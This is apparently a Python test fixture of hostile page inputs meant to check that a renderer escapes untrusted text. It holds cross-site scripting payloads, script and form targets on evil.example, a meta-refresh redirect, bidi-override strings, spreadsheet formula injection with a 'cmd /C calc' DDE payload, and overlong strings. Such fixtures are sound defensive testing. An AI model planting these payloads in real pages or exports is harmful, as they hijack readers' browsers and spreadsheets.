"""What a page may hold to harm whoever looks at the list: scripts, addresses that run, turned text, formulas."""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["HOSTILE", "Hostile"]


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """The words of one page. Every one of them is shown somewhere."""

    donor: str
    fund: str
    headline: str
    quote: str
    outlet: str
    url: str | None
    fund_id: str | None = None


HOSTILE = (
    Hostile(
        donor="<script>alert('donor')</script> Mills",
        fund='the "><script src=https://evil.example/f.js></script> fund',
        headline="<script>alert('headline')</script> Mills gives",
        quote="<iframe src=javascript:alert('quote')></iframe>",
        outlet="</title><script>alert('outlet')</script> Post",
        url="https://evil.example/'onmouseover='alert(1)'?<script>",
    ),
    Hostile(
        donor='"><img src=https://evil.example/x onerror=alert(1)> Works',
        fund="{{ 7 * 7 }}<svg onload=alert(1)> fund",
        headline='"><img src=x onerror=alert(2)><style>*{display:none}</style>',
        quote="<base href=https://evil.example/><form action=https://evil.example/>",
        outlet="<meta http-equiv=refresh content=0;url=https://evil.example/>",
        url="javascript:alert('address')",
    ),
    Hostile(
        donor="Saltmarsh \u202eseporR\u202c \u2066Ltd\u2069\u200b",
        fund="the \u202edetrevni\u202c fund",
        headline="\u202eGnip\u202c Mills \u200fgives",
        quote="\u2067turned\u2069 words",
        outlet="The \u202etsoP\u202c",
        url="data:text/html,<script>alert(1)</script>",
    ),
    Hostile(
        donor='=HYPERLINK("https://evil.example";"Foxglove")',
        fund="@SUM(1+1)*cmd|' /C calc'!A0",
        headline="+1+1",
        quote="-2+3",
        outlet="=1+1",
        url="https://formula.example/",
    ),
    Hostile(
        donor="Donaudampfschifffahrtsgesellschaft" * 6,
        fund="Elektrizitätshauptbetriebswerk" * 8,
        headline="Bauunterbeamtengesellschaft" * 12,
        quote="Hottentottenstottertrottelmutter" * 9,
        outlet="Zeitungsverlagsgesellschaft" * 5,
        url="https://long.example/" + "a" * 400,
    ),
)
